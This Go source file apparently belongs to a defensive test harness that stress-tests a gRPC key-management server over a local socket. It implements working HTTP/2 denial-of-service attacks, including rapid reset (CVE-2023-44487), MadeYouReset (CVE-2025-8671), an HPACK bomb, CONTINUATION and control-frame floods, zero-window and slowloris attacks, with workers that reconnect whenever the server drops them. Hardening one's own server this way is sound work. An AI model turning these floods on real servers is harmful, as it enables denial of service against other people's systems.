// SPDX-License-Identifier: MIT

package main

import (
	"bytes"
	"context"
	"errors"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc/status"
)

// attack is one class of abuse from issue #8, in the shape of tests/KmsNative.Tests/Hostile: run floods the server
// until ctx ends, replacing every connection the server closes, and records the server's answers in rec.
type attack struct {
	name        string
	description string
	run         func(ctx context.Context, socket string, rec *reaction)
}

var attacks = []attack{
	{"none", "no attack: the witness alone, the baseline for the machine's own noise", func(ctx context.Context, _ string, _ *reaction) { <-ctx.Done() }},
	{"rapid-reset", "2 conns: HEADERS then RST_STREAM(CANCEL) on each new stream (CVE-2023-44487)", rapidReset},
	{"continuation-flood", "2 conns: HEADERS without END_HEADERS, then 1 KB CONTINUATION frames forever", continuationFlood},
	{"hpack-bomb", "2 conns: one 4,000-byte entry indexed, then referenced 4,000 times (8 KB sent, 16 MB decoded)", hpackBomb},
	{"settings-flood", "1 conn: 256 open streams, then SETTINGS frames of 2,000 INITIAL_WINDOW_SIZE entries", settingsFlood},
	{"ping-flood", "2 conns: PING frames, replies read", pingFlood},
	{"window-update-flood", "2 conns: connection WINDOW_UPDATE of 1, over and over", windowUpdateFlood},
	{"priority-flood", "2 conns: PRIORITY frames on ever new idle streams", priorityFlood},
	{"zero-window", "16 conns: INITIAL_WINDOW_SIZE 0, 256 Encrypts of 60 KB each, replies never read", zeroWindow},
	{"slowloris", "150 conns: 8 streams each, request bodies sent one byte per second", slowloris},
	{"oversized", "8 grpc-go callers: 1 MiB Encrypts (limit 64 KiB)", oversized},
	{"stream-exhaustion", "2 conns: HEADERS without END_STREAM on ever new streams", streamExhaustion},
	{"made-you-reset", "2 conns: Encrypt then WINDOW_UPDATE 0 on its stream, provoking RST_STREAM (CVE-2025-8671)", madeYouReset},
	{"idle-connections", "300 conns: handshake, then nothing (slots: 128)", idleConnections},
}

// connections runs workers goroutines, each attacking over one connection at a time; a connection the server ends
// (or refuses) is replaced at once, as a determined attacker would.
func connections(ctx context.Context, socket string, rec *reaction, workers int, read bool, settings []http2.Setting,
	attack func(ctx context.Context, p *attackPeer) error) {
	var wg sync.WaitGroup
	for i := 0; i < workers; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for ctx.Err() == nil {
				p, err := dialPeer(ctx, socket, rec, read, settings...)
				if err != nil {
					atomic.AddInt64(&rec.dialFailures, 1)
					sleep(ctx, 10*time.Millisecond)
					continue
				}
				// A write that fails other than by our write deadline (the attack's end) means the server hung up.
				if err := attack(ctx, p); (err != nil && !isTimeout(err)) || p.endedByServer() {
					atomic.AddInt64(&rec.closedByServer, 1)
				}
				p.close()
			}
		}()
	}
	wg.Wait()
}

func isTimeout(err error) bool {
	var netErr net.Error
	return errors.As(err, &netErr) && netErr.Timeout()
}

func sleep(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// flood writes batch groups of frames with write, flushes, and repeats until the attack's time is up or the server
// hangs up. Each group counts as one frame sent (for the multi-frame groups: one request, one attack step).
func flood(ctx context.Context, p *attackPeer, rec *reaction, batch int, write func()) error {
	for !p.done(ctx) {
		for i := 0; i < batch; i++ {
			write()
		}
		if err := p.w.Flush(); err != nil {
			return err
		}
		atomic.AddInt64(&rec.framesSent, int64(batch))
	}
	return nil
}

// hold keeps the connection open, doing nothing, until the attack's time is up or the server ends it.
func hold(ctx context.Context, p *attackPeer) error {
	select {
	case <-ctx.Done():
	case <-p.closed:
	}
	return nil
}

func rapidReset(ctx context.Context, socket string, rec *reaction) {
	connections(ctx, socket, rec, 2, true, nil, func(ctx context.Context, p *attackPeer) error {
		return flood(ctx, p, rec, 100, func() {
			id := p.stream()
			p.headers(id, "Encrypt", false)
			p.fr.WriteRSTStream(id, http2.ErrCodeCancel)
		})
	})
}

// literalBlock encodes fields as literals never indexed (RFC 7541 §6.2.3), so a block means the same whatever the
// dynamic table holds: the attacks below change the table behind the encoder's back.
func literalBlock(fields ...[2]string) []byte {
	var b bytes.Buffer
	enc := hpack.NewEncoder(&b)
	for _, f := range fields {
		enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true})
	}
	return b.Bytes()
}

func requestFields(method string) [][2]string {
	return [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", "/v2.KeyManagementService/" + method},
		{":authority", "localhost"}, {"content-type", "application/grpc"}, {"te", "trailers"}}
}

func continuationFlood(ctx context.Context, socket string, rec *reaction) {
	chunk := literalBlock([2]string{"x-c", strings.Repeat("c", 1000)})
	connections(ctx, socket, rec, 2, true, nil, func(ctx context.Context, p *attackPeer) error {
		id := p.stream()
		p.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: literalBlock(requestFields("Encrypt")...)})
		return flood(ctx, p, rec, 16, func() { p.fr.WriteContinuation(id, false, chunk) })
	})
}

func hpackBomb(ctx context.Context, socket string, rec *reaction) {
	entry := literalBlock([2]string{"x-bomb", strings.Repeat("b", 4000)})
	entry[0] = 0x40 // RFC 7541 §6.2.1: literal with incremental indexing, new name: the entry becomes index 62
	block := append(literalBlock(requestFields("Encrypt")...), entry...)
	block = append(block, bytes.Repeat([]byte{0x80 | 62}, 4000)...) // §6.1: indexed field 62, 4,000 times
	connections(ctx, socket, rec, 2, true, nil, func(ctx context.Context, p *attackPeer) error {
		return flood(ctx, p, rec, 1, func() {
			p.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: p.stream(), BlockFragment: block, EndHeaders: true,
				EndStream: true})
		})
	})
}

func settingsFlood(ctx context.Context, socket string, rec *reaction) {
	entries := make([]http2.Setting, 2000)
	for i := range entries {
		entries[i] = http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(65535 + i&1)}
	}
	connections(ctx, socket, rec, 1, true, nil, func(ctx context.Context, p *attackPeer) error {
		for i := 0; i < 256; i++ {
			p.headers(p.stream(), "Encrypt", false)
		}
		return flood(ctx, p, rec, 4, func() { p.fr.WriteSettings(entries...) })
	})
}

func pingFlood(ctx context.Context, socket string, rec *reaction) {
	connections(ctx, socket, rec, 2, true, nil, func(ctx context.Context, p *attackPeer) error {
		return flood(ctx, p, rec, 1000, func() { p.fr.WritePing(false, [8]byte{1, 2, 3, 4, 5, 6, 7, 8}) })
	})
}

func windowUpdateFlood(ctx context.Context, socket string, rec *reaction) {
	connections(ctx, socket, rec, 2, true, nil, func(ctx context.Context, p *attackPeer) error {
		return flood(ctx, p, rec, 1000, func() { p.fr.WriteWindowUpdate(0, 1) })
	})
}

func priorityFlood(ctx context.Context, socket string, rec *reaction) {
	connections(ctx, socket, rec, 2, true, nil, func(ctx context.Context, p *attackPeer) error {
		return flood(ctx, p, rec, 1000, func() { p.fr.WritePriority(p.stream(), http2.PriorityParam{Weight: 15}) })
	})
}

// writeBody sends a gRPC message as DATA frames of at most 16 KiB (SETTINGS_MAX_FRAME_SIZE's initial value).
func writeBody(p *attackPeer, stream uint32, body []byte) {
	for len(body) > 16384 {
		p.fr.WriteData(stream, false, body[:16384])
		body = body[16384:]
	}
	p.fr.WriteData(stream, true, body)
}

func zeroWindow(ctx context.Context, socket string, rec *reaction) {
	body := grpcMessage(appendBytes(nil, 1, bytes.Repeat([]byte{7}, 60000)))
	zero := []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}
	connections(ctx, socket, rec, 16, false, zero, func(ctx context.Context, p *attackPeer) error {
		for i := 0; i < 256 && ctx.Err() == nil; i++ {
			id := p.stream()
			p.headers(id, "Encrypt", false)
			writeBody(p, id, body)
			if err := p.w.Flush(); err != nil {
				return err
			}
		}
		return hold(ctx, p)
	})
}

func slowloris(ctx context.Context, socket string, rec *reaction) {
	connections(ctx, socket, rec, 150, true, nil, func(ctx context.Context, p *attackPeer) error {
		var streams [8]uint32
		for !p.done(ctx) {
			for i := range streams {
				if streams[i] == 0 || p.wasReset(streams[i]) { // a new stream for each one the server gave up on
					streams[i] = p.stream()
					p.headers(streams[i], "Encrypt", false)
				}
				p.fr.WriteData(streams[i], false, []byte{0})
			}
			if err := p.w.Flush(); err != nil {
				return err
			}
			sleep(ctx, time.Second)
		}
		return nil
	})
}

func oversized(ctx context.Context, socket string, rec *reaction) {
	cc := dial(socket)
	defer cc.Close()
	request := appendBytes(nil, 1, make([]byte, 1<<20))
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for ctx.Err() == nil {
				_, err := invoke(cc, "/v2.KeyManagementService/Encrypt", request)
				rec.add("grpc " + status.Code(err).String())
			}
		}()
	}
	wg.Wait()
}

func streamExhaustion(ctx context.Context, socket string, rec *reaction) {
	connections(ctx, socket, rec, 2, true, nil, func(ctx context.Context, p *attackPeer) error {
		return flood(ctx, p, rec, 100, func() { p.headers(p.stream(), "Encrypt", false) })
	})
}

func madeYouReset(ctx context.Context, socket string, rec *reaction) {
	connections(ctx, socket, rec, 2, true, nil, func(ctx context.Context, p *attackPeer) error {
		return flood(ctx, p, rec, 50, func() {
			id := p.stream()
			p.encryptCall(id)
			p.fr.WriteWindowUpdate(id, 0) // RFC 9113 §6.9: a stream error the server must answer with RST_STREAM
		})
	})
}

func idleConnections(ctx context.Context, socket string, rec *reaction) {
	connections(ctx, socket, rec, 300, true, nil, hold)
}
